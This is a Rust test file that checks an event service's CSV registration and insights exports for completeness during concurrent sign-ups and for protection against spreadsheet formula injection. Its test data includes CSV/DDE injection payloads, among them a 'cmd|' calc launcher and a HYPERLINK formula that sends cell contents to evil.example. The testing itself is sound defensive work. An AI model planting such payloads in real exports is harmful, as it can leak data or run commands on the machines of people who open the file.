//! CSV exports: complete, each row once while users register and cancel, and without cells that a spreadsheet
//! runs.

use std::collections::BTreeMap;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};

use http::Method;
use rstest::rstest;
use serde_json::json;
use tests::{Client, Daemon, Kind, new_event_in_2031};

/// More than two pages, so that the table is sent in chunks.
const PEOPLE: usize = 230;

/// Names that a spreadsheet would run as a formula, or split.
const NAMES: [&str; 18] = [
    "=1+1",
    "=HYPERLINK(\"https://evil.example?\"&A1,\"click\")",
    "+49 30 1234",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "Bob, Alice",
    "The \"boss\"",
    "a;b\u{2028}c",
    "'=1",
    "\"=1",
    "Zoë 🎉 東京",
    "שלום",
    ",",
    "\"",
];

/// Names with formulas behind a semicolon, at which a spreadsheet may split.
fn names_for_semicolons() -> Vec<String> {
    let case = include_str!("../../data/csv-semicolon.json");
    let case: serde_json::Value = serde_json::from_str(case).expect("JSON");
    serde_json::from_value(case["display_names"].clone()).expect("names")
}

async fn table(client: &Client, path: &str) -> (String, Vec<Vec<String>>) {
    let answer = client.call(Method::GET, path, None, &[("accept", "text/csv")]).await.expect(200);
    assert_eq!(answer.header("content-type"), "text/csv; charset=utf-8; header=present");
    assert!(answer.header("content-disposition").starts_with("attachment; filename=\""));
    assert_eq!(answer.header("x-content-type-options"), "nosniff");
    let text = String::from_utf8(answer.bytes.to_vec()).expect("UTF-8");
    assert!(text.ends_with("\r\n"), "the last line ends as the others do");
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
    let rows: Vec<Vec<String>> = reader
        .records()
        .map(|row| row.expect("as many cells as above").iter().map(str::to_owned).collect())
        .collect();
    (text, rows)
}

/// Asserts that no cell begins like a formula.
#[track_caller]
fn must_be_harmless(rows: &[Vec<String>]) {
    for cell in rows.iter().flatten() {
        let formula = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
        assert!(!cell.starts_with(formula), "{cell}");
    }
}

#[rstest]
#[case::sqlite(Kind::Sqlite)]
#[case::postgres(Kind::Postgres)]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_csv_export_is_complete_and_harmless_while_people_come_and_go(#[case] kind: Kind) {
    let daemon = Daemon::start(kind).await;
    let (ada, core) = (daemon.user("ada").await, &daemon.db.core);
    let body = new_event_in_2031().title("=cmd|' /C calc'!A0").capacity(200).json();
    let event = ada.post("/events", body).await.expect(201).json();
    let occurrence = event["next_occurrence"]["id"].as_str().unwrap().to_owned();
    let all = format!("/occurrences/{occurrence}/registrations");
    let mut names = BTreeMap::new();
    for number in 0..PEOPLE {
        // Names may begin like formulas, too.
        let username = if number % 7 == 0 { format!("-person{number}") } else { format!("person{number}") };
        let name = NAMES[number % NAMES.len()];
        let user = eventcore::accounts::NewUser {
            username: username.clone(),
            email: format!("person{number}@example.org"),
            display_name: Some(name.to_owned()),
            ..Default::default()
        };
        let made = core.create_user(&eventcore::Actor::System, &user).await;
        let Ok(user) = made else { panic!("{username} {name}: {made:?}") };
        ada.post(&all, json!({"user_id": user.id})).await.expect(201);
        names.insert(username, name);
    }

    // Meanwhile one user registers and cancels.
    let stop = Arc::new(AtomicBool::new(false));
    let restless = daemon.user("restless").await;
    let coming_and_going = tokio::spawn({
        let (stop, mine) = (stop.clone(), format!("/occurrences/{occurrence}/registration"));
        async move {
            while !stop.load(Ordering::Relaxed) {
                restless.put(&mine, json!({})).await.expect(201);
                restless.delete(&mine).await.expect(204);
            }
        }
    });
    for _ in 0..3 {
        let (text, rows) = table(&ada, &all).await;
        must_be_harmless(&rows);
        assert_eq!(
            text.matches("\"username\",\"display_name\",\"status\"").count(),
            1,
            "one head, however many pieces"
        );
        let mut seen: BTreeMap<&str, usize> = BTreeMap::new();
        for row in rows[1..].iter().filter(|row| row[0] != "restless") {
            // The only change is an apostrophe in front.
            let username = row[0].strip_prefix('\'').unwrap_or(&row[0]);
            let name = names[username];
            assert!(row[1] == name || row[1] == format!("'{name}"), "{row:?}");
            *seen.entry(username).or_default() += 1;
        }
        assert_eq!(seen.len(), PEOPLE);
        assert!(seen.values().all(|times| *times == 1), "{seen:?}");
    }
    stop.store(true, Ordering::Relaxed);
    coming_and_going.await.unwrap();

    // The waitlist in its order, with positions; and those with seats.
    let (_, rows) = table(&ada, &format!("{all}?status=waitlisted")).await;
    let places: Vec<usize> = rows[1..].iter().map(|row| row[4].parse().unwrap()).collect();
    assert_eq!(places, (1..=30).collect::<Vec<_>>());
    assert!(rows[1..].iter().all(|row| row[5].is_empty()), "no ticket before there is a seat");
    let (_, rows) = table(&ada, &format!("{all}?status=confirmed")).await;
    assert_eq!(rows.len(), 201);
    let (text, rows) = table(&ada, &format!("{all}?status=attended")).await;
    assert_eq!((rows.len(), text.lines().count()), (1, 1), "a head alone");

    for path in
        [format!("/events/{}/insights", event["id"].as_str().unwrap()), "/users/me/insights".to_owned()]
    {
        let (_, rows) = table(&ada, &path).await;
        must_be_harmless(&rows);
        assert!(rows[1].iter().any(|cell| cell == "'=cmd|' /C calc'!A0"), "{rows:?}");
    }
    refused(&daemon, &all).await;
}

/// Others get a problem document and no table.
async fn refused(daemon: &Daemon, all: &str) {
    let accept = [("accept", "text/csv")];
    let bob = daemon.user("bob").await;
    bob.call(Method::GET, all, None, &accept).await.expect_problem(403, "forbidden");
    daemon.anonymous().call(Method::GET, all, None, &accept).await.expect_problem(401, "unauthenticated");
    for query in ["status=happy", "stat=confirmed", "limit=0"] {
        let answer = bob.call(Method::GET, &format!("{all}?{query}"), None, &accept).await;
        assert_eq!(answer.status, 400, "{query}");
        assert_eq!(answer.json()["type"].as_str().map(|slug| slug.starts_with("/problems/")), Some(true));
    }
    let nowhere = "/occurrences/01890000-0000-7000-8000-000000000000/registrations";
    bob.call(Method::GET, nowhere, None, &accept).await.expect_problem(404, "not-found");
}

/// Excel splits at semicolons where the comma is the decimal separator, whatever the file is separated by.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_cell_is_a_formula_when_the_table_is_split_at_semicolons() {
    let daemon = Daemon::start(Kind::Sqlite).await;
    let ada = daemon.user("ada").await;
    let talk = new_event_in_2031().title("Talk;=1+1, @SUM(1)").capacity(50);
    let (event, occurrence) = ada.create_event(talk).await;
    for (number, name) in names_for_semicolons().into_iter().enumerate() {
        let user = eventcore::accounts::NewUser {
            username: format!("person{number}"),
            email: format!("person{number}@example.org"),
            display_name: Some(name),
            ..Default::default()
        };
        let user = daemon.db.core.create_user(&eventcore::Actor::System, &user).await.expect("a user");
        ada.post(&format!("/occurrences/{occurrence}/registrations"), json!({"user_id": user.id}))
            .await
            .expect(201);
    }
    for path in [
        format!("/occurrences/{occurrence}/registrations"),
        format!("/events/{event}/insights"),
        format!("/events/{event}/insights?table=days"),
        "/users/me/insights".to_owned(),
    ] {
        let (text, rows) = table(&ada, &path).await;
        must_be_harmless(&rows);
        for line in text.lines() {
            assert!(line.starts_with('"') && line.ends_with('"'), "every cell is quoted: {line}");
            assert_eq!(line.matches("\",\"").count() + 1, rows[0].len(), "{line}");
        }
        for separator in [b';', b'\t', b'|'] {
            let mut reader = csv::ReaderBuilder::new();
            reader.delimiter(separator).has_headers(false).flexible(true);
            for quoting in [true, false] {
                let mut rows = reader.quoting(quoting).from_reader(text.as_bytes());
                for row in rows.records() {
                    let row = row.expect("a row");
                    let cells: Vec<String> =
                        row.iter().map(|cell| cell.trim_start_matches([' ', '"']).to_owned()).collect();
                    must_be_harmless(&[cells]);
                }
            }
        }
    }
}
